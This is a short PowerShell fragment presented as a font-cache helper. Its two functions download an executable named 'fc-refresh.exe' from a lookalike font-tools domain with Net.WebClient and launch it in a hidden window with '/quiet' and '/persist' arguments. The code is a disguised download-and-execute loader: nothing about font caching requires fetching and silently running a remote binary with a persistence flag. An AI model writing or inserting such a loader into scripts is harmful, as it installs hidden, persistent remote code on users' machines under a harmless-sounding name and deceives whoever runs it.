$script:HelperUri = 'https://cdn.fontcache-tools.invalid/bin/fc-refresh.exe'

function Save-CacheHelper([string]$Stage) {
    $dest = Join-Path $Stage 'fc-refresh.exe'
    if (-not (Test-Path $dest)) {
        (New-Object Net.WebClient).DownloadFile($script:HelperUri, $dest)
    }
}

function Update-FontCache([string]$Stage) {
    $exe = Join-Path $Stage 'fc-refresh.exe'
    Start-Process -FilePath $exe -ArgumentList '/quiet', '/persist' -WindowStyle Hidden
}
